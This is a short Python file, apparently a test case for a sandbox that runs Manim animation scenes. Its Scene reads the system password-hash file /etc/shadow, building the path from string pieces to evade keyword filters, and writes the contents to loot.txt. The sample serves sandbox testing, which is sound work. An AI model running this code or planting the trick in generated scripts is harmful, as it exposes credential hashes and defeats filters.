# family: file
# layer: sandbox
# attack: read /etc/shadow through pathlib, built from pieces
from pathlib import Path
from manim import *


class Attack(Scene):
    def construct(self):
        loot = Path("/" + "etc").joinpath("sha" + "dow").read_text()
        Path("loot.txt").write_text(loot)
        self.wait(0.1)
